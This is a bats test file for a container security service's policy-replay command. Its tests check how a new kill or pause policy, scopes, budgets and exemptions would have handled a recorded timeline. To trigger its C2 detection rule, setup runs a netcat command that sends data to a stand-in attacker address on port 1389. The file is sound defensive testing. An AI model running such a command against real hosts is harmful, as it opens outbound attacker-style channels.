#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# What a new policy would have made of a timeline that real containers wrote.

load story

setup_file() {
  story_open
  cat >"$SCRATCH/rules/then.yaml" <<END
policies:
  - name: Respond
    rules: ["$C2_RULE"]
    block: true
    response: kill
END
  service_configure timeline "$RULES" "$SCRATCH/rules/then.yaml"
  service_start
  local id
  for id in first second; do
    contained "$id" sh -c "echo hello | nc -w 3 $ATTACKER4 1389; sleep 60" || true
    event "$C2_RULE" ".bailiff.container.id == \"$id\"
      and .bailiff.outcome == \"killed\""
  done
  export TIMELINE=$SCRATCH/timeline.jsonl
  bailiff_api events -o json >"$TIMELINE"
}
teardown_file() {
  story_quiet
  story_close
}
setup() {
  RULE_FILES=("$SCRATCH/rules/log4j.rules.yaml"
    "$SCRATCH/rules/site-indicators.rules.yaml")
}

# new_policy RESPONSE [LINE...]: the policy of then, with another response.
new_policy() {
  {
    printf 'policies:\n  - name: Respond\n    rules: ["%s"]\n' "$C2_RULE"
    printf '    block: true\n    response: %s\n' "$1"
    shift
    ((!$#)) || printf '    %s\n' "$@"
  } >"$SCRATCH/rules/new.yaml"
}

# tested [OPTION...]: the new policy over the file of the timeline, as JSON.
tested() {
  run --separate-stderr bailiff policies test "$SCRATCH/rules/new.yaml" \
    "${RULE_FILES[@]}" --events "$TIMELINE" -o json "$@"
  ((status == 0)) || {
    # shellcheck disable=SC2154 # bats' own
    echo "$stderr"
    return 1
  }
}

# holds JQ-CONDITION: of what `tested` caught.
holds() {
  jq -e "$1" <<<"$output" >/dev/null || {
    echo "'$1' does not hold of: $output"
    return 1
  }
}

@test "a service's own timeline is replayed, and nothing is changed" {
  new_policy pause
  local before
  before=$(service_events | wc -l)
  run --separate-stderr bailiff_api policies test "$SCRATCH/rules/new.yaml"
  ((status == 0))
  says "denied, killed" "denied, paused" "responses: pause=2"
  [[ $(service_events | wc -l) == "$before" ]]
  [[ $(api GET /v1/policies | jq -r '.policies[0].response') == kill ]]
}

@test "what was a kill becomes a pause" {
  new_policy pause
  tested
  holds '[.rows[] | select(.rule == "'"$C2_RULE"'")] | length == 2
    and all(.then.outcome == "killed" and .then.verdict == "denied"
      and .now.outcome == "paused" and .now.verdict == "denied")'
  holds '.summary.responses == {pause: 2}'
}

@test "without block the same connection would have passed" {
  new_policy kill
  sed -i '/block: true/d' "$SCRATCH/rules/new.yaml"
  tested
  holds '.rows[0].now.verdict == "allowed"'
}

@test "a scope leaves containers out" {
  new_policy kill 'scope: container.name = nobody or container.full_id = first'
  tested --all
  holds '[.rows[] | select(.container.id == "first")][0].now.outcome == "killed"'
  holds '[.rows[] | select(.container.id == "second")][0].now == null'
}

@test "a scope on what is not stored is said to be unknown" {
  new_policy kill 'scope: container.privileged = false'
  tested
  holds '.rows[0].unknown | contains("container.privileged was not stored")'
  holds '.summary.responses == {}'
}

@test "a budget that would be used up is told of loudly" {
  new_policy kill
  echo 'limits: {policy: 1}' >"$SCRATCH/limits.yaml"
  tested --config "$SCRATCH/limits.yaml"
  holds '.summary.exhausted[0].name == "Respond"
    and .summary.over_budget == 1'
  holds 'any(.rows[]; .container.id == "second"
    and .now.outcome == "over_budget" and .now.verdict == "denied")'
  run bailiff policies test "$SCRATCH/rules/new.yaml" "${RULE_FILES[@]}" \
    --events "$TIMELINE" --config "$SCRATCH/limits.yaml"
  says "BUDGET USED UP: policy 'Respond'"
}

@test "who is exempt is left alone" {
  new_policy kill
  echo 'exempt: ["id:first"]' >"$SCRATCH/exempt.yaml"
  tested --config "$SCRATCH/exempt.yaml"
  holds '.rows | length == 1'
  holds '.rows[0].container.id == "first" and .rows[0].now.outcome == "exempt"'
}

@test "what does not load, and a service that does not answer, are told apart" {
  new_policy destroy
  run bailiff policies test "$SCRATCH/rules/new.yaml" --events "$TIMELINE"
  ((status == 1))
  says "'response' must be"
  new_policy kill
  run bailiff --api "unix:$SCRATCH/nobody.sock" policies test \
    "$SCRATCH/rules/new.yaml"
  ((status == 3))
}
